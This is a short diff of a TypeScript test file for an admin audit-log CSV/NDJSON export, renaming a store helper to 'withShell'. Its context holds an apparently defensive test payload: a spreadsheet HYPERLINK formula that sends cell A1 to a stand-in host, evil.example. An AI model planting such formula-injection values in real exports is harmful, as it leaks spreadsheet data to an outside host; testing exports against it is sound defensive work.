@@ -2,7 +2,7 @@ import { expect, test } from "bun:test";
 import { csvCell } from "../../src/admin/audit/export-rows.ts";
 import { pick, pickText } from "../harness/json.ts";
 import { codeOf, describeApi, fieldsOf, itemsOf } from "./started.ts";
-import { multiply, withStore } from "./store-file.ts";
+import { multiply, withShell } from "./store-shell.ts";
 
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
@@ -29,7 +29,7 @@ describeApi("the audit log as a file", (api) => {
   });
 
   test("is as large as the log, in every format, each entry once and newest first", async () => {
-    await withStore(api.gateway, (store) => multiply(store, "audit_log", 1_234, ["id", "resource_id"]));
+    await withShell(api.gateway, (store) => multiply(store, "audit_log", 1_234, ["id", "resource_id"]));
     const lines = (await file("ndjson")).text.trimEnd().split("\n");
     const ids = lines.map((line) => pickText(JSON.parse(line), "id"));
     expect(ids.length).toBeGreaterThan(1_234);
